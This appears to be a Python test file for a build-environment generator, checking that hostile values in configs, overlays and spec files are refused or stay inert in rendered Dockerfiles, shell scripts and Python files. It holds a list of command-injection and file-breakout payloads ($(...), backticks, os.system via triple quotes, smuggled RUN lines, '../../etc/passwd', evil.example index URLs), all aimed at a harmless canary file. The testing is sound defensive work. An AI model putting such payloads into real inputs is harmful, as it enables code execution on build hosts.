"""Issue 12, no injected code: every value from the matrix, an overlay, the config or a --from
file is checked where it enters (the kinds in envbuilder/model/schema.py) and quoted where it leaves
(the filters of envbuilder/render/quoting.py, in templates/*.j2).

Hostile strings (newlines, quotes, $(...), backticks, triple quotes, `; touch`, NUL, unicode,
100,000 characters) go through every field that reaches a rendered file: by a --matrix-dir
overlay, by the user config, by a `render --from` file, and straight into the templates past the
entry checks. Each is either refused (exit 2 with a bounded message; past the entry checks, a
ValueError) or it arrives verbatim and inert: the run script runs with a stub python3 that
records its argv, preflight.py and apply_patches.py (against a copy of verl 0.4.1's files) run,
every Python file has the same syntax tree as a benign render, the Dockerfile parses with
BuildKit's parser to the same instructions, and no canary file appears. On the code before this
issue a gpu name with triple quotes ran code in preflight.py, a model id ran `$(...)` in the run
script and a description added a RUN line."""

from __future__ import annotations

import ast
import atexit
import copy
import json
import re
import runpy
import shlex
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Callable, NamedTuple

import dockerfile
import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

try:
    import tomllib
except ModuleNotFoundError:  # Python 3.10
    import tomli as tomllib

from conftest import FIXTURES, frozen, record, resolved, shipped
from envbuilder import images
from envbuilder.render import quoting
from envbuilder.model.mirrors import without_credentials as bare
from envbuilder.errors import UserError
from envbuilder.render.files import MARKER, RUN_SCRIPT, render_files
from envbuilder.render.context import BuildContext
from envbuilder.model.resolve import ResolvedEnv

URL = "https://example.org/lab"
CANARY_DIR = Path(tempfile.mkdtemp(prefix="envbuild-canary-"))
atexit.register(shutil.rmtree, CANARY_DIR, True)
CANARY = CANARY_DIR / "PWNED"
C = str(CANARY)
# what an attacker writes: each would run `touch CANARY`, add a line or an instruction, or end a
# string early, if it reached its file raw
ATTACKS = [
    f"$(touch {C})",
    f"`touch {C}`",
    f"; touch {C}",
    f"&& touch {C} #",
    f"| touch {C}",
    f"\ntouch {C}\n",
    f"'; touch {C}; '",
    f'"; touch {C}; "',
    f"${{IFS}}touch${{IFS}}{C}",
    f'"""\nimport os; os.system("touch {C}")\n"""',
    f"\nimport os; os.system('touch {C}')\n#",
    f"\nRUN touch {C}",
    f"\\\nRUN touch {C}",
    f"\r\nRUN touch {C}",
    f"\u2028RUN touch {C}",
    f'" \\\nRUN touch {C} #',
    "x\x00y",
    "\x1b[2J",
    "é€😀\u202e",
    "{variant}{nope}",
    "$HOME",
    " #",
    "-e git+https://evil.example/x",
    "..",
    "../../etc/passwd",
    f"<<EOF\ntouch {C}\nEOF",
    "x" * 100_000,
]


def hostile(benign: tuple[str, ...]):
    """An attack, a few of them run together with random text, one after a value of the field's
    own kind, or a value of that kind as it is (so the render path runs too)."""
    short = st.sampled_from(ATTACKS[:-1])
    return st.one_of(
        st.sampled_from(ATTACKS),
        st.lists(st.one_of(short, st.text(max_size=6)), min_size=1, max_size=3).map("".join),
        st.tuples(st.sampled_from(benign), short).map("".join),
        st.sampled_from(benign),
    )


# -- the fields that reach a rendered file, and how each enters --------------------------------


def profile_with(**changes) -> dict:
    return {"profiles": {"p40": record("profiles", "p40", source=URL, **changes)}}


def train_with(**changes) -> dict:
    return dict(record("profiles", "p40")["train"], **changes)


def defaults_with(**changes) -> dict:
    return {"defaults": dict(shipped().defaults, **changes)}


def lab_mirror(**kinds) -> dict:
    return {"mirrors": {"lab": {"description": "a lab mirror", **kinds, "source": URL}}}


def set_path(*path):
    """A --from edit: the value at data[path...]."""

    def put(data, value):
        node = data
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value

    return put


class Field(NamedTuple):
    """A value that reaches a rendered file, and how it gets there."""

    name: str
    benign: tuple[str, ...]  # values of the field's kind that envbuild takes
    attacks: tuple[str, ...]  # what would run (or add a line) where this field lands, if raw
    overlay: Callable | None  # value -> (overlay or config doc, profile, extra CLI args)
    edit: Callable | None  # (envbuild.json data, value) -> None
    arrived: Callable  # (Rendered, value) -> bool: it is there, verbatim
    config: bool = False  # the doc is the user's config file, not an overlay
    runs: tuple[str, ...] = ()  # the scripts it lands in, run besides the run script


class Rendered:
    """A rendered directory: its files, and what running them did."""

    def __init__(self, files: dict[str, str], out: Path):
        self.files, self.out = files, out

    def dockerfile(self):
        return dockerfile.parse_string(self.files["Dockerfile"])

    def arg(self, name: str) -> str:
        """An ARG's default as the Dockerfile reads it (double quotes and their escapes)."""
        for c in self.dockerfile():
            if c.cmd == "ARG" and c.value[0].split("=", 1)[0] == name:
                return dockerfile_word(c.value[0].split("=", 1)[1])
        raise AssertionError(f"no ARG {name}")

    def label(self, key: str) -> str:
        label = next(c for c in self.dockerfile() if c.cmd == "LABEL")
        pairs = dict(zip(label.value[::2], label.value[1::2]))
        return dockerfile_word(pairs[key])

    def module(self, name: str) -> dict:
        """The globals of a rendered Python file, run as a module (its main() not called)."""
        return runpy.run_path(str(self.out / name), run_name="envbuild_injection_test")

    def data(self, name: str) -> dict:
        """What the image script `name` reads (its part of the sidecar), as that script reads
        it: through its own load_data, the code the image runs. The script itself is the
        package's file, the same bytes whatever the value."""
        assert self.files[name] == images.script_text(name)
        g = self.module(name)
        return g["load_data"](g["KEY"], g["SHAPE"])


def dockerfile_word(text: str) -> str:
    """What BuildKit's shell lexer makes of a word: "..." with \\", \\$, \\\\ unescaped."""
    if text.startswith('"') and text.endswith('"'):
        return re.sub(r'\\(["$\\])', r"\1", text[1:-1])
    assert not re.search(r"[\"'$\\\s]", text), text
    return text


def main_argv(r: Rendered) -> list[str]:
    return r.calls[-1]["argv"]


FIELDS = [
    Field(
        "description",
        ("Tesla P40 - lab build", "P40 (Pascal): fp32, 'eager' & offload"),
        (f"\nRUN touch {C}", "x" * 100_000),
        lambda v: (profile_with(description=v), "p40", []),
        set_path("description"),
        lambda r, v: (
            r.label("org.opencontainers.image.description") == v
            and json.loads(r.files[MARKER])["description"] == v
        ),
    ),
    Field(
        "profile name",
        ("lab-p40", "p40.v2_b"),
        (f"$(touch {C})", "../../escaped"),
        lambda v: ({"profiles": {v: record("profiles", "p40", source=URL)}}, v, []),
        set_path("profile"),
        lambda r, v: (
            r.label("io.envbuild.profile") == v
            and yaml.safe_load(r.files["environment.yml"])["name"] == f"envbuild-{v}"
            and pixi(r)["workspace"]["name"] == f"envbuild-{v}"
        ),
        runs=("preflight",),
    ),
    Field(
        "gpu name",
        ("Tesla P40", "NVIDIA P40 (24GB) rev.2"),
        (f'""" + __import__("os").system("touch {C}") + """',),
        lambda v: ({"gpus": {"p40": record("gpus", "p40", name=v, source=URL)}}, "p40", []),
        set_path("gpu", "name"),
        lambda r, v: (
            r.data("preflight.py")["gpu"] == v
            and r.data("audit_precision.py")["gpu"] == v
            and r.data("apply_patches.py")["gpu"] == v
        ),
        runs=("preflight", "apply_patches"),
    ),
    Field(
        "model id",
        ("Qwen/Qwen2.5-0.5B-Instruct", "my-org/tiny.model_v2"),
        (f"$(touch {C})",),
        lambda v: (
            {
                "models": {v: record("models", "Qwen/Qwen2.5-0.5B-Instruct", source=URL)},
                **profile_with(train=train_with(model=v)),
            },
            "p40",
            [],
        ),
        set_path("train", "model"),
        lambda r, v: (
            f"actor_rollout_ref.model.path={v}" in main_argv(r) and f"critic.model.path={v}" in main_argv(r)
        ),
    ),
    Field(
        "pin name",
        ("zope.interface", "my_pkg[extra,more]", "A.b-C"),  # (new to verl's pins)
        (f"x; touch {C} #",),
        lambda v: (profile_with(pins={v: "1.0"}), "p40", []),
        lambda d, v: d["verl"]["pins"].__setitem__(v, "1.0"),
        lambda r, v: (
            f"{v}==1.0" in r.files["requirements.txt"].splitlines()
            and f"{v}==1.0" in pip_words(r)
            and pixi_pin(r, v.split("[")[0]) == "==1.0"
        ),
    ),
    Field(
        "pin version",
        ("1.26.3", "2.9.0rc1", "0.8.5.post1"),  # (not the shipped pin)
        (f"1.0 && touch {C}",),
        lambda v: (profile_with(pins={"numpy": v}), "p40", []),
        lambda d, v: d["verl"]["pins"].__setitem__("numpy", v),
        lambda r, v: (
            f"numpy=={v}" in r.files["requirements.txt"].splitlines() and pixi_pin(r, "numpy") == f"=={v}"
        ),
    ),
    Field(
        "torch index URL",
        # (first a URL no shipped lock was solved through: the index is a pip input, so the shipped
        # URL would take p40's lock's pins and another would not; the baseline is the second kind)
        ("https://mirror.example:8443/torch/cu118", "https://mirror.example:8443/torch/{variant}?x=1"),
        ("https://download.pytorch.org/whl/{cuda}", f"https://x.example/$(touch {C})"),
        lambda v: ({"index_url": v}, "p40", []),
        lambda d, v: (set_path("indexes", "torch")(d, v), set_path("torch", "index_url")(d, v)),
        lambda r, v: (
            r.arg("TORCH_INDEX_URL") == bare(v.replace("{variant}", "cu118"))
            and pixi(r)["pypi-dependencies"]["torch"]["index"] == bare(v.replace("{variant}", "cu118"))
        ),
        runs=("preflight",),
    ),
    Field(
        "PyPI index URL",
        ("https://pypi.example/simple", "http://user:pw@10.0.0.1:3141/root/pypi/+simple/"),
        ("https://pypi.org/simple --trusted-host evil.example",),
        lambda v: (defaults_with(pypi_index=v), "p40", []),
        set_path("indexes", "pypi"),
        # (a URL's user:password@ is a secret: it arrives without it, issue 21)
        lambda r, v: (
            r.arg("PIP_INDEX_URL") == bare(v)
            and f"--extra-index-url {bare(v)}" in r.files["requirements.txt"].splitlines()
            and pixi(r)["pypi-options"]["index-url"] == bare(v)
        ),
    ),
    Field(
        "Hugging Face endpoint",
        ("https://huggingface.co", "https://hf-mirror.com/"),
        (f"https://hf.example/`touch {C}`",),
        lambda v: (defaults_with(huggingface=v), "p40", []),
        set_path("huggingface"),
        lambda r, v: r.arg("HF_ENDPOINT") == bare(v) and r.calls[-1]["HF_ENDPOINT"] == bare(v),
    ),
    Field(
        "mirror's Hugging Face endpoint",
        ("https://hf-mirror.com",),
        (f"https://hf.example/$(touch {C})",),
        lambda v: (lab_mirror(huggingface=[v]), "p40", ["--mirror", "lab"]),
        None,
        lambda r, v: r.arg("HF_ENDPOINT") == v and r.calls[-1]["HF_ENDPOINT"] == v,
    ),
    Field(
        "apt mirror",
        ("http://mirrors.tuna.tsinghua.edu.cn/ubuntu",),
        (f'http://x.example/#e; touch {C}; "', "http://x.example/${IFS}"),
        lambda v: (lab_mirror(apt=[v]), "p40", ["--mirror", "lab"]),
        lambda d, v: d.__setitem__("mirror", {"name": "lab", "apt": v, "conda_nvidia": None}),
        lambda r, v: r.arg("APT_MIRROR") == v,
    ),
    Field(
        "config's apt mirror",
        ("http://mirror.example/ubuntu",),
        (f"http://x/\nRUN touch {C}",),
        lambda v: (lab_mirror(apt=[v]), "p40", ["--mirror", "lab"]),
        None,
        lambda r, v: r.arg("APT_MIRROR") == v,
        config=True,
    ),
    Field(
        "patch why",
        ("verl hard-codes flash_attention_2 (needs CC >= 8.0)",),
        (f"x\nimport os; os.system('touch {C}')",),
        lambda v: (
            {"patches": {"verl-hardcoded-fa2": record("patches", "verl-hardcoded-fa2", why=v, source=URL)}},
            "p40",
            [],
        ),
        lambda d, v: set_path("why")(d["patches"][0], v),
        lambda r, v: (
            {p["name"]: p["why"] for p in r.data("apply_patches.py")["patches"]}["verl-hardcoded-fa2"] == v
        ),
        runs=("apply_patches",),
    ),
    Field(
        "base image",
        ("nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04", "registry.example:5000/nvidia/cuda:11.8.0-runtime"),
        (f"x AS y\nRUN touch {C}",),
        lambda v: (
            {
                "cuda": {
                    "11.8": record(
                        "cuda", "11.8", source=URL, images=dict(record("cuda", "11.8")["images"], runtime=v)
                    )
                }
            },
            "p40",
            [],
        ),
        set_path("cuda", "images", "runtime"),
        lambda r, v: r.arg("BASE_RUNTIME") == v,
    ),
    Field(
        "dataset instruction",
        ('Think step by step; answer after "####".',),
        (f'"""; __import__("os").system("touch {C}"); """',),
        lambda v: (
            {"datasets": {"gsm8k": record("datasets", "gsm8k", instruction=v, source=URL)}},
            "p40",
            [],
        ),
        set_path("dataset", "instruction"),
        lambda r, v: r.data("prepare_gsm8k.py")["instruction"] == v,
    ),
    Field(
        "warning",
        ("bf16 on the Tesla P40 (CC 6.1): native bfloat16 needs CC >= 8.0.",),
        (f"\nRUN touch {C}",),
        None,
        lambda d, v: d.__setitem__("warnings", [v]),
        lambda r, v: f"# WARNING (--allow-unsupported): {v}" in r.files["Dockerfile"],
    ),
    Field(
        "allocator why",
        ("against fragmentation on a 24 GB card",),
        (f"\ntouch {C}",),
        None,
        set_path("cuda_alloc_conf", "why"),
        lambda r, v: f": {v}. An exported" in r.files[RUN_SCRIPT],
    ),
    Field(
        "memory phase",
        ("log_prob",),
        (f"\ntouch {C}",),
        None,
        set_path("memory", "peak", "phase"),
        lambda r, v: f"# ({v}) of" in r.files[RUN_SCRIPT],
    ),
]
OVERLAY_FIELDS = [f for f in FIELDS if f.overlay]
FROM_FIELDS = [f for f in FIELDS if f.edit]


def pixi(r: Rendered) -> dict:
    """pixi.toml as TOML reads it."""
    return tomllib.loads(r.files["pixi.toml"])


def pixi_pin(r: Rendered, name: str) -> str:
    """The version pixi.toml pins `name` (PEP 503's form of it) at."""
    from envbuilder.render.plan import normalize

    dep = pixi(r)["pypi-dependencies"][normalize(name)]
    return dep if isinstance(dep, str) else dep["version"]


def pip_words(r: Rendered) -> list[str]:
    """The words of the Dockerfile's verl-deps pip step, as bash splits them."""
    run = next(
        c
        for c in r.dockerfile()
        if c.cmd == "RUN" and "verl-deps.txt " in c.value[0] and "pip install" in c.value[0]
    )
    return shlex.split(run.value[0])


# -- what "inert" means: the structure of a benign render, and running the files ---------------


def structure(files: dict[str, str]) -> dict:
    """What a value must not change: the file names; the Dockerfile's instructions (their
    arguments' count, flags, heredocs) and each RUN line's count of bash words; each Python
    file's syntax tree with its string constants blanked; the non-comment lines of the shell
    script and the pip files; environment.yml's and pixi.toml's shape (pixi.toml must parse)."""
    out: dict = {"names": sorted(files)}
    out["Dockerfile"] = [
        (c.cmd, len(c.value), c.flags, len(c.heredocs), bash_words(c.value[0]) if c.cmd == "RUN" else 0)
        for c in dockerfile.parse_string(files["Dockerfile"])
    ]
    for name, text in files.items():
        if name.endswith(".py"):
            tree = ast.parse(text)
            for node in ast.walk(tree):
                if isinstance(node, ast.Constant) and isinstance(node.value, str):
                    node.value = ""
            out[name] = ast.dump(tree)
        elif name.endswith((".sh", ".txt")):  # (lines as bash reads them; as pip does: splitlines)
            lines = text.split("\n") if name.endswith(".sh") else text.splitlines()
            out[name] = len([ln for ln in lines if ln.strip() and not ln.lstrip().startswith("#")])
    env = yaml.safe_load(files["environment.yml"])
    out["environment.yml"] = (
        sorted(env),
        len(env["channels"]),
        len(env["dependencies"]),
        len(env["dependencies"][-1]["pip"]),
    )
    doc = tomllib.loads(files["pixi.toml"])
    out["pixi.toml"] = (
        [
            (table, sorted(v) if table not in ("dependencies", "pypi-dependencies") else len(v))
            for table, v in doc.items()
        ],
        [sorted(task) for task in doc["tasks"].values()],
        len(doc["workspace"]["channels"]),
    )
    return out


def bash_words(command: str) -> int:
    """How many words a RUN line is (-1: quotes that do not close, as a line cut short)."""
    try:
        return len(shlex.split(command))
    except ValueError:
        return -1


STUB_PYTHON = f"""#!{sys.executable} -S
import json, os, sys
with open(os.environ["STUB_LOG"], "a", encoding="utf-8") as f:
    f.write(json.dumps({{"argv": sys.argv[1:], "HF_ENDPOINT": os.environ.get("HF_ENDPOINT")}}) + "\\n")
"""


def run_files(out: Path, work: Path, field: Field) -> Rendered:
    """Run what was rendered into `out`: the run script (python3 a stub that records its argv
    and HF_ENDPOINT), and where the field lands in them, preflight.py (no torch here: its checks
    fail and it says so) and apply_patches.py (against a copy of verl 0.4.1's files)."""
    r = Rendered(rendered_files(out), out)
    stub, data, log = work / "bin", work / "data", work / "calls.jsonl"
    stub.mkdir()
    data.mkdir()
    (stub / "python3").write_text(STUB_PYTHON)
    (stub / "python3").chmod(0o755)
    for split in ("train", "test"):  # present: the run does not prepare GSM8K
        (data / f"{split}.parquet").write_bytes(b"")
    env = {
        "PATH": f"{stub}:/usr/bin:/bin",
        "HOME": str(work),
        "DATA_DIR": str(data),
        "ENVBUILD_HOME": str(out),
        "STUB_LOG": str(log),
        "LC_ALL": "C.UTF-8",
    }
    p = subprocess.run(["bash", str(out / RUN_SCRIPT)], env=env, capture_output=True, text=True, timeout=60)
    if p.returncode == 2 and "cannot reach verl's Hydra overrides" in p.stderr:
        # the script's own input check refused the value (a model id Hydra would misread)
        # before any work: inert, and nothing ran
        assert not log.exists(), p.stderr
        r.refused = p.stderr
        assert_no_canary()
        return r
    assert p.returncode == 0, p.stderr
    r.calls = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    assert [c["argv"][:2] for c in r.calls] == [
        [f"{out}/preflight.py", "--quiet"],
        ["-m", "verl.trainer.main_ppo"],
    ], r.calls
    if "preflight" in field.runs:
        p = subprocess.run(
            [sys.executable, str(out / "preflight.py"), "--json"],
            cwd=work,
            capture_output=True,
            text=True,
            timeout=60,
            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(work / "no-site")},
        )
        assert p.returncode == 1 and "Traceback" not in p.stderr, p.stderr
        assert json.loads(p.stdout)["ready"] is False  # (no torch, no GPU here)
    if "apply_patches" in field.runs:
        site = work / "site"
        shutil.copytree(FIXTURES / "verl-0.4.1", site)
        p = subprocess.run(
            [sys.executable, str(out / "apply_patches.py"), "--site", str(site)],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=work,
        )
        assert p.returncode == 0, p.stderr
        assert 'attn_implementation="eager"' in (site / "verl/workers/fsdp_workers.py").read_text()
    assert_no_canary()
    return r


def profile_folder(out: Path) -> Path:
    """What `render -o OUT` wrote: OUT/<profile>/, the one thing in OUT (whatever the profile's
    name, which is itself a value under test here)."""
    [folder] = list(out.iterdir())
    assert folder.is_dir() and not folder.is_symlink(), folder
    return folder


def rendered_files(out: Path) -> dict[str, str]:
    return {
        str(p.relative_to(out)): p.read_text(encoding="utf-8")
        for p in out.rglob("*")
        if p.is_file() and not p.name.startswith(".envbuild-")
    }


def assert_no_canary():
    assert not CANARY.exists() and not any(CANARY_DIR.iterdir()), "injected code ran"


def fresh_canary() -> None:
    """No canary left by an earlier example (that one failed already): each example stands alone."""
    for p in CANARY_DIR.iterdir():
        p.unlink()


def assert_refused(code: int, err: str) -> None:
    assert code == 2, err
    assert "envbuild: error:" in err or "Error:" in err, err
    assert "Traceback" not in err and len(err) < 3000, err[:3000]


_BASELINES: dict = {}


def check_rendered(
    out: Path, work: Path, field: Field, value: str, path: str, baseline: Callable, verbatim: bool = True
) -> None:
    """`value` arrived verbatim, and nothing around it changed shape or ran: the structure is
    that of the field's first benign value rendered the same way (`path`: baseline(value, dir)
    renders it and returns the folder)."""
    r = run_files(out, work, field)
    if (field.name, path) not in _BASELINES:
        _BASELINES[field.name, path] = structure(rendered_files(baseline(field.benign[0], fresh(work))))
    assert structure(r.files) == _BASELINES[field.name, path]
    if getattr(r, "refused", None):
        assert field.name == "model id", r.refused  # (the one value the script checks itself)
        return
    if verbatim:
        assert field.arrived(r, value), f"{field.name}: {value!r} did not arrive verbatim"


def fresh(base: Path) -> Path:
    return Path(tempfile.mkdtemp(dir=base))


def cases(fields: list[Field]):
    """(field, value): one of `fields` and a hostile value for it."""
    return st.sampled_from(fields).flatmap(lambda f: st.tuples(st.just(f), hostile(f.benign)))


def with_attacks(fields: list[Field]):
    """Every field with the attacks on where it lands, as explicit examples (run every time)."""

    def decorate(test):
        for f in fields:
            for attack in f.attacks:
                test = example(case=(f, attack))(test)
        return test

    return decorate


# (a random field and value per example, on top of every field's own attacks)
RUN_SETTINGS = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


# -- by an overlay (or the user's config) -------------------------------------------------------


@pytest.fixture
def render_cli(cli, monkeypatch, tmp_path):
    """cli() with no matrix cache (every example is another overlay) and an empty user config."""
    from envbuilder.model import config

    monkeypatch.setenv("ENVBUILD_NO_CACHE", "1")
    (tmp_path / "empty-config.yaml").write_text("{}\n")
    monkeypatch.setenv("ENVBUILD_CONFIG", str(tmp_path / "empty-config.yaml"))
    config._load.cache_clear()
    yield cli, monkeypatch, tmp_path / "empty-config.yaml"
    config._load.cache_clear()


def render_overlay(render_cli, field: Field, value: str, work: Path):
    """`envbuild render` with `value` in an overlay (or the user's config): (code, out, err)."""
    from envbuilder.model import config

    cli, monkeypatch, empty = render_cli
    doc, profile, args = field.overlay(value)
    work.mkdir(parents=True, exist_ok=True)
    if field.config:
        (work / "config.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
        monkeypatch.setenv("ENVBUILD_CONFIG", str(work / "config.yaml"))
    else:
        (work / "overlay").mkdir()
        (work / "overlay" / "lab.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
        args = [*args, "--matrix-dir", work / "overlay"]
    config._load.cache_clear()
    try:
        return cli("render", profile, "-o", work / "out", *args)
    finally:
        monkeypatch.setenv("ENVBUILD_CONFIG", str(empty))
        config._load.cache_clear()


def overlay_baseline(render_cli, field):
    def baseline(value, work):
        code, _, err = render_overlay(render_cli, field, value, work)
        assert code == 0, err
        return profile_folder(work / "out")

    return baseline


@RUN_SETTINGS
@given(case=cases(OVERLAY_FIELDS))
@with_attacks(OVERLAY_FIELDS)
def test_an_overlay_value_is_refused_or_arrives_verbatim_and_inert(render_cli, tmp_path, case):
    field, value = case
    fresh_canary()
    work = fresh(tmp_path)
    code, _, err = render_overlay(render_cli, field, value, work)
    if code == 0:
        check_rendered(
            profile_folder(work / "out"), work, field, value, "overlay", overlay_baseline(render_cli, field)
        )
    else:
        assert_refused(code, err)
    assert_no_canary()


@pytest.mark.parametrize("field", OVERLAY_FIELDS, ids=lambda f: f.name)
def test_a_benign_value_of_every_field_renders_and_arrives(render_cli, tmp_path, field):
    """The other side of the entry checks: each field's ordinary values still render."""
    fresh_canary()
    for value in field.benign:
        work = fresh(tmp_path)
        code, _, err = render_overlay(render_cli, field, value, work)
        assert code == 0, err
        check_rendered(
            profile_folder(work / "out"), work, field, value, "overlay", overlay_baseline(render_cli, field)
        )


# -- by a --from file ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def p40_spec() -> dict:
    return json.loads(render_files(BuildContext.of(resolved("p40")))[MARKER])


def render_from(cli, spec: dict, field: Field, value: str, work: Path):
    data = copy.deepcopy(spec)
    field.edit(data, value)
    work.mkdir(parents=True, exist_ok=True)
    (work / "spec.json").write_text(json.dumps(data), encoding="utf-8")
    return cli("render", "--from", work / "spec.json", "-o", work / "out")


@RUN_SETTINGS
@given(case=cases(FROM_FIELDS))
@with_attacks(FROM_FIELDS)
def test_a_from_file_value_is_refused_or_arrives_verbatim_and_inert(cli, tmp_path, p40_spec, case):
    field, value = case
    fresh_canary()
    work = fresh(tmp_path)

    def baseline(v, where):
        code, _, err = render_from(cli, p40_spec, field, v, where)
        assert code == 0, err
        return profile_folder(where / "out")

    code, _, err = render_from(cli, p40_spec, field, value, work)
    if code == 0:
        check_rendered(profile_folder(work / "out"), work, field, value, "from", baseline)
    else:
        assert_refused(code, err)
    assert_no_canary()


# -- past the entry checks: what the templates' quoting alone does ------------------------------


def render_direct(spec: dict, field: Field, value: str, work: Path) -> Path | None:
    """render_files on an environment whose value never met a check (a caller's own data), the
    files written as a render writes them; None when the templates refused the value."""
    data = copy.deepcopy(spec)
    data.pop("run", None)  # (derived from the rest, edited value included, as render_files does)
    field.edit(data, value)
    try:
        files = render_files(BuildContext.of(ResolvedEnv.from_plain(data)))
    except ValueError as e:  # quoting.word / quoting.sh: a value with no safe way into its file
        assert str(e)
        return None
    out = work / "out"
    for name, text in files.items():
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return out


@RUN_SETTINGS
@given(case=cases(FROM_FIELDS))
@with_attacks(FROM_FIELDS)
def test_past_the_checks_the_quoting_alone_keeps_a_value_inert(tmp_path, p40_spec, case):
    field, value = case
    fresh_canary()
    work = fresh(tmp_path)
    out = render_direct(p40_spec, field, value, work)
    if out is not None:
        # verbatim where the language can say it (a bash word, Python data); in a comment or a
        # Dockerfile value, a character that would end the line is written as its escape
        check_rendered(
            out,
            work,
            field,
            value,
            "direct",
            lambda v, where: render_direct(p40_spec, field, v, where),
            verbatim=all(map(quoting.printable, value)),
        )
    assert_no_canary()


# -- the filters themselves ------------------------------------------------------------------------


@settings(max_examples=50, deadline=None, database=None)
@given(st.text().filter(lambda s: "\x00" not in s))
def test_sh_quotes_any_text_into_one_bash_word_that_is_exactly_it(value):
    p = subprocess.run(
        ["bash", "-c", f"printf '%s' {quoting.sh(value)}"],
        capture_output=True,
        timeout=10,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
    )
    assert p.stdout.decode("utf-8", "surrogateescape") == value
    assert "\n" not in quoting.sh(value) and "\r" not in quoting.sh(value)


@settings(max_examples=300, deadline=None, database=None)
@given(
    st.text(alphabet=st.characters() | st.sampled_from("'\" $`@%+=:,./-_é\x85")).filter(
        lambda s: not quoting._ASCII_CONTROL.search(s)
    )
)
@example("")
@example("it's")
@example("a-b_c.d/e:f,g=h+i%j@k")
def test_sh_writes_what_shlex_quote_writes_for_text_without_controls(value):
    """sh() spells shlex.quote itself (the render path no longer imports shlex): the same word."""
    import shlex

    assert quoting.sh(value) == shlex.quote(value)


@settings(max_examples=100, deadline=None, database=None)
@given(st.text())
def test_python_and_comment_filters_keep_any_text_on_its_line_and_exact(value):
    assert eval(quoting.py(value)) == value  # noqa: S307 (our own literal)
    assert ast.literal_eval(f'"""{quoting.pystr(value)}"""') == value
    for filtered in (quoting.comment(value), quoting.pystr(value), quoting.dq(value)):
        assert len(filtered.splitlines() or [""]) == 1 and "\x00" not in filtered
    assert dockerfile_word(f'"{quoting.dq(value)}"') == value or not all(map(quoting.printable, value))


@settings(max_examples=200, deadline=None, database=None)
@given(st.text(), st.text())
def test_toml_filters_keep_any_text_one_value_on_its_line_and_exact(key, value):
    """pixi.toml: any text is one TOML string (or key) that reads back as exactly itself and
    stays on its line; a NUL, which no value envbuild writes may hold, is refused."""
    if "\x00" in key + value:
        with pytest.raises(ValueError):
            quoting.toml(key + value)
        return
    line = f"{quoting.tomlkey(key)} = {quoting.toml(value)}"
    assert len(line.splitlines()) == 1
    assert tomllib.loads(line + "\n# after\n") == {key: value}


def test_a_benign_value_leaves_every_filter_unchanged():
    for value in ("Tesla P40", "https://pypi.org/simple", "torch==2.6.0+cu118", "p40"):
        assert {
            quoting.comment(value),
            quoting.pystr(value),
            quoting.dq(value),
            quoting.arg(value) if " " not in value else value,
        } == {value}
    assert quoting.word("ray[default]==2.46.0") == "ray[default]==2.46.0"
    assert quoting.toml("https://pypi.org/simple") == '"https://pypi.org/simple"'
    assert quoting.tomlkey("torch") == "torch" and quoting.tomlkey("zope.interface") == '"zope.interface"'
    with pytest.raises(ValueError):
        quoting.word("numpy==1.0 --index-url https://evil")


# -- checked where it enters: the placeholder, the pre-release, a key named twice ----------------


def overlay_error(tmp_path, doc) -> str:
    from envbuilder.model import matrix as M

    folder = fresh(tmp_path)
    (folder / "lab.yaml").write_text(yaml.safe_dump(doc), encoding="utf-8")
    with pytest.raises(UserError) as e:
        M.load((folder,))
    return str(e.value)


@pytest.mark.parametrize(
    "doc, named",
    [
        ({"index_url": "https://download.pytorch.org/whl/{cuda}"}, "index_url"),
        ({"index_url": "https://download.pytorch.org/whl/{variant"}, "index_url"),
        (lab_mirror(pytorch=["https://mirror.example/{varient}"]), "mirrors.lab.pytorch[0]"),
        (lab_mirror(pypi=["https://mirror.example/{variant}/simple"]), "mirrors.lab.pypi[0]"),
    ],
    ids=["unknown field", "unclosed brace", "mirror's pytorch", "a field where none is filled"],
)
def test_a_placeholder_envbuild_does_not_fill_is_refused_at_load(tmp_path, doc, named):
    msg = overlay_error(tmp_path, doc)
    assert named in msg and "lab.yaml" in msg
    assert "Traceback" not in msg


def test_an_unknown_placeholder_in_the_index_url_is_exit_2_not_a_traceback(render_cli, tmp_path):
    cli = render_cli[0]
    folder = fresh(tmp_path)
    (folder / "lab.yaml").write_text('index_url: "https://download.pytorch.org/whl/{cuda}"\n')
    code, _, err = cli("render", "p40", "--matrix-dir", folder, "-o", tmp_path / "out")
    assert_refused(code, err)
    assert "{cuda}" in err and "{variant}" in err


RC_OVERLAY = {
    "torch": {
        "2.9.0rc1": dict(
            record("torch", "2.9.0", frozen()), torchvision="0.24.0rc1", torchaudio="2.9.0rc1", source=URL
        )
    },
    "vllm": {"0.11.1rc2": dict(record("vllm", "0.11.0", frozen()), torch="2.9.0rc1", source=URL)},
    "verl": {
        "0.7.0rc1": dict(
            record("verl", "0.6.1", frozen()), vllm=">=0.8.5,<=0.11.1rc2", source=URL, torch_source=URL
        )
    },
    "profiles": {
        "rc": record(
            "profiles",
            "h200",
            frozen(),
            torch="2.9.0rc1",
            vllm="0.11.1rc2",
            verl="0.7.0rc1",
            source=URL,
            pins={"transformers": "4.57.0rc3"},
        )
    },
}


def test_pre_releases_in_an_overlay_render_and_reach_preflight(render_cli, tmp_path):
    cli = render_cli[0]
    folder = fresh(tmp_path)
    (folder / "lab.yaml").write_text(yaml.safe_dump(RC_OVERLAY), encoding="utf-8")
    code, _, err = cli("render", "rc", "--matrix-dir", folder, "-o", tmp_path / "out")
    assert code == 0, err
    out = tmp_path / "out" / "rc"
    r = Rendered(rendered_files(out), out)
    expected = r.data("preflight.py")
    assert expected["torch_version"] == "2.9.0rc1"
    assert expected["torch_requirement"] == "torch==2.9.0rc1"
    assert "transformers==4.57.0rc3" in r.files["requirements.txt"].splitlines()
    assert r.arg("VERL_VERSION") == "0.7.0rc1"


@settings(
    max_examples=40,
